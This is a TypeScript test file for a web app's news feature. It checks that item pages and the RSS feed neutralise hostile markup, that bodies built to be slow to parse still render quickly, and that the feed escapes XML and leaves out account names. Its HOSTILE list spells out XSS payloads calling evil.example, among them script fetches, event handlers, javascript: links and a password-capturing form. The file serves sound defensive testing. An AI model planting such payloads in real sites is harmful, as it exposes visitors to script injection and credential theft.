import { expect, test } from 'vitest';
import { publish } from '../../../../tests/support/news-samples.ts';
import { world } from '../../../../tests/support/world.ts';

const HOSTILE: [what: string, body: string][] = [
	['a script', '<script>fetch("https://evil.example/")</script>'],
	['a script in a word', 'Bonjour <script src=//evil.example/x.js></script> à tous'],
	['an image from elsewhere', '![pixel](https://evil.example/pixel.png)'],
	['an image by HTML', '<img src="https://evil.example/pixel.png" onerror="alert(1)">'],
	['an SVG', '<svg onload=alert(1)><image href="https://evil.example/"/></svg>'],
	['a frame', '<iframe src="https://evil.example/"></iframe>'],
	[
		'a style',
		'<style>@import url(https://evil.example/x.css)</style>\n\n<p style="background:url(//evil.example)">x</p>'
	],
	['a link that runs', '[cliquez](javascript:alert(1)) [ici](data:text/html,<script>1</script>) [là](vbscript:x)'],
	['a reference that runs', '[cliquez][x]\n\n[x]: javascript:alert(1)'],
	['a link to nowhere’s scheme', '[x](//evil.example/pixel)'],
	['an autolink that runs', '<javascript:alert(1)>'],
	['a form', '<form action="https://evil.example/"><input name="password"></form>'],
	['a page', '<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/"></head></html>']
];

test.each(HOSTILE)('%s in the text of an item loads nothing, runs nothing and leads nowhere', async (_, body) => {
	const here = await world();
	const id = await publish(here, { body, audience: 'public', title: body.slice(0, 100) });
	const { html } = await here.visitor().news.read({ id });
	// Tags that are really there; what was typed as HTML is shown as text.
	const tags = [...html.matchAll(/<\/?([a-z0-9]+)([^>]*)>/gi)];
	for (const [tag, name, attributes] of tags) {
		expect(['p', 'br', 'a', 'strong', 'em', 'ul', 'li'], tag).toContain(name);
		expect(attributes, tag).not.toMatch(/\son|style|src|srcset/i);
		expect(attributes, tag).not.toMatch(/href="(?!https?:\/\/|mailto:)/i);
	}
	const feed = await here.visitor().news.feed();
	expect(feed.replace(/&lt;|&amp;lt;/g, '')).not.toMatch(/<(script|img|svg|iframe|style|form|html)/i);
});

test('a huge text, or one built to be slow to read, is read in no time', async () => {
	const here = await world();
	for (const body of [
		'[('.repeat(10_000),
		'> '.repeat(10_000),
		'*_'.repeat(10_000),
		'![a]('.repeat(4000),
		'<b>'.repeat(6000)
	]) {
		const id = await publish(here, { body, audience: 'public' });
		const started = performance.now();
		await here.visitor().news.read({ id });
		await here.visitor().news.list({});
		expect(performance.now() - started, body.slice(0, 10)).toBeLessThan(1000);
	}
});

test('the feed is well-formed whatever is written, with addresses of the configured origin and nobody’s name', async () => {
	const here = await world();
	const title = 'A & B < C > "D" \'E\' ]]> \u0007🙂';
	const id = await publish(here, { title: 'x', body: `${title}\n\nSuite`, audience: 'public', pinned: true });
	await here.base.db.updateTable('news').set({ title }).where('id', '=', id).execute();
	const feed = await here.visitor().news.feed();
	const item = /<item>([\s\S]*)<\/item>/.exec(feed)![1]!;
	expect(item).toContain(`<link>http://localhost:3000/news/${id}</link>`);
	expect(item).toContain(`<guid isPermaLink="true">http://localhost:3000/news/${id}</guid>`);
	expect(item).toMatch(/<pubDate>\w{3}, \d\d \w{3} \d{4} \d\d:\d\d:\d\d GMT<\/pubDate>/);
	expect(item).toContain('<title>A &amp; B &lt; C &gt; &quot;D&quot; &apos;E&apos; ]]&gt; 🙂</title>');
	expect(feed).toContain(
		'<atom:link href="http://localhost:3000/news/rss.xml" rel="self" type="application/rss+xml"/>'
	);
	// Without its escapes and tags nothing is left that XML would take for its own.
	expect(feed.replace(/&(amp|lt|gt|quot|apos);/g, '').replace(/<[^<>]*>/g, '')).not.toMatch(/[<&]/);
	const { firstName, lastName, email } = await here.base.db
		.selectFrom('account')
		.selectAll()
		.where('id', '=', await here.accountId('alix'))
		.executeTakeFirstOrThrow();
	for (const word of [firstName, lastName, email]) expect(feed).not.toContain(word);
});
